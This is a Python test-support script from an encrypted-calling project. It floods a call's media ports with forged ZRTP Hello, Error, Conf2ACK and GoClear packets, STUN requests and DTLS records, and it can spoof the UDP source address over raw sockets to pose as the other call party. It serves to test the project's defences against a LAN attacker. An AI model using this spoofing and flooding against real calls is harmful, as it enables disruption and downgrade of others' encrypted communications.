"""A third host spraying forged key-agreement packets at a call's media ports (issue 12's attacker).

    python -m tests.support.sprayer --target 10.1.2.1:40000 --target 10.1.2.2:40002 \\
        --spoof 10.1.2.2:40002=10.1.2.1:40000 --seconds 12 --rate 100

Every packet is well formed for its kind: ZRTP Hellos from fresh sessions and ZRTP Error/Conf2ACK/GoClear
with valid CRCs, STUN binding requests with the magic cookie, DTLS handshake records. Sent from this host's
own address to each --target, and (with --spoof SRC=DST, raw sockets, root) with a forged source address:
the other end of the call, which is what an attacker on the LAN can do without being on the path. Prints
"ready" once it starts and a JSON line of counts when done.
"""

from __future__ import annotations

import argparse
import itertools
import json
import os
import random
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Iterator

from zcall.zrtp import messages as m
from zcall.zrtp.packet import encode_packet
from zcall.zrtp.session import ZrtpSession

Addr = tuple[str, int]


def forged_hellos(count: int) -> list[bytes]:
    """Hellos of sessions that are nobody's: valid CRC, valid MAC, random ZID."""
    out = []
    for _ in range(count):
        session = ZrtpSession(os.urandom(12), ssrc=random.getrandbits(32))
        session.start(0.0)
        out.extend(session.datagrams_to_send(0.0))
    return out


def stun_binding_request() -> bytes:
    # RFC 5389: type 0x0001, length 0, magic cookie, 96-bit transaction id.
    return struct.pack("!HHI", 0x0001, 0, 0x2112A442) + os.urandom(12)


def dtls_client_hello_record() -> bytes:
    # A DTLS 1.2 handshake record header and a ClientHello-shaped body of random bytes.
    body = b"\x01" + struct.pack("!I", 60)[1:] + b"\x00\x00" + b"\x00\x00\x00" + struct.pack("!I", 60)[1:]
    body += os.urandom(60)
    return struct.pack("!BHH6sH", 22, 0xFEFD, 0, os.urandom(6), len(body)) + body


def packets(hellos: list[bytes]) -> Iterator[tuple[str, bytes]]:
    ssrc = random.getrandbits(32)
    for n in itertools.count():
        seq = n & 0xFFFF
        yield "zrtp-hello", hellos[n % len(hellos)]
        yield "zrtp-error", encode_packet(seq, ssrc, m.Error(0x40).encode())
        yield "zrtp-conf2ack", encode_packet(seq, ssrc, m.Conf2Ack().encode())
        yield "zrtp-goclear", encode_packet(seq, ssrc, m.GoClear(os.urandom(8)).encode())
        yield "stun", stun_binding_request()
        yield "dtls", dtls_client_hello_record()


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\x00"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def spoofed_datagram(src: Addr, dst: Addr, payload: bytes) -> bytes:
    """An IPv4 + UDP packet from `src` (not our address) to `dst`, for a raw socket with IP_HDRINCL."""
    udp_len = 8 + len(payload)
    src_ip, dst_ip = socket.inet_aton(src[0]), socket.inet_aton(dst[0])
    pseudo = src_ip + dst_ip + struct.pack("!BBH", 0, socket.IPPROTO_UDP, udp_len)
    udp = struct.pack("!HHHH", src[1], dst[1], udp_len, 0) + payload
    udp = udp[:6] + struct.pack("!H", _checksum(pseudo + udp) or 0xFFFF) + udp[8:]
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, random.getrandbits(16), 0, 64, socket.IPPROTO_UDP, 0,
        src_ip, dst_ip,
    )  # fmt: skip
    ip = ip[:10] + struct.pack("!H", _checksum(ip)) + ip[12:]
    return ip + udp


def _addr(text: str) -> Addr:
    host, _, port = text.rpartition(":")
    return host, int(port)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--target", action="append", default=[], type=_addr)
    parser.add_argument("--spoof", action="append", default=[], help="SRC_IP:PORT=DST_IP:PORT")
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--rate", type=float, default=100.0, help="packets per second per destination")
    parser.add_argument("--skip", action="append", default=[], help="a kind not to send (e.g. zrtp-error)")
    args = parser.parse_args(argv)
    spoofs = [(_addr(s.split("=")[0]), _addr(s.split("=")[1])) for s in args.spoof]
    plain = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) if spoofs else None
    sent: Counter[str] = Counter()
    source = packets(forged_hellos(8))
    print("ready", flush=True)
    deadline = time.monotonic() + args.seconds
    interval = 1.0 / args.rate
    while time.monotonic() < deadline:
        kind, data = next(source)
        if kind in args.skip:
            continue
        for target in args.target:
            plain.sendto(data, target)
            sent[f"{kind}-direct"] += 1
        for src, dst in spoofs:
            assert raw is not None
            raw.sendto(spoofed_datagram(src, dst, data), (dst[0], 0))
            sent[f"{kind}-spoofed"] += 1
        time.sleep(interval)
    print(json.dumps(dict(sent)), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
